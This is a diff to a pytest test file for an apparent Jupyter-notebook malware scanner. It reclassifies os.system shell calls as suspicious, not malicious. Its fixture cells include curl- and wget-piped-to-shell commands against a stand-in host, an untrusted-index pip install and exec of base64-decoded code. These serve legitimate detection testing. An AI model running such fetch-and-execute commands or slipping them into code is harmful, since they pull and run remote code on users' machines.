@@ -30,7 +30,6 @@ def judged_of(*cells: str, **fields: Any) -> Judged:
 @pytest.mark.parametrize(
     ("cell", "rule"),
     [
-        ("import os\nos.system('touch x')", "code.shell"),
         ("x = 1\n!curl http://x.invalid/a | sh", "notebook.hostile-command"),
         ("files = !wget -qO- http://x.invalid/a | bash", "notebook.hostile-command"),
         ("%%bash\ncurl http://x.invalid/a | sh", "notebook.hostile-command"),
@@ -46,7 +45,6 @@ def judged_of(*cells: str, **fields: Any) -> Judged:
         ("%pip install --trusted-host x.invalid -i http://x.invalid evil",
          "notebook.installs-elsewhere"),
         ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "code.executes-decoded"),
-        ("%%time\nimport os\nos.system('touch x')", "code.shell"),
     ],
 )  # fmt: skip
 def test_cells_that_act_are_malicious(cell: str, rule: str) -> None:
@@ -54,6 +52,13 @@ def test_cells_that_act_are_malicious(cell: str, rule: str) -> None:
     assert rule in judged.rules
     assert judged.verdict is Verdict.MALICIOUS, judged
     assert any("cell 2" in finding.evidence for finding in judged.findings)
+
+
+@pytest.mark.parametrize("before", ["", "%%time\n", "# x\n"])
+def test_commands_of_a_cell_are_for_a_person_to_look_at(before: str) -> None:
+    judged = judged_of(f"{before}import os\nos.system('touch x')")
+    assert judged.rules == {"code.shell"}
+    assert judged.verdict is Verdict.SUSPICIOUS
 
 
 @pytest.mark.parametrize(
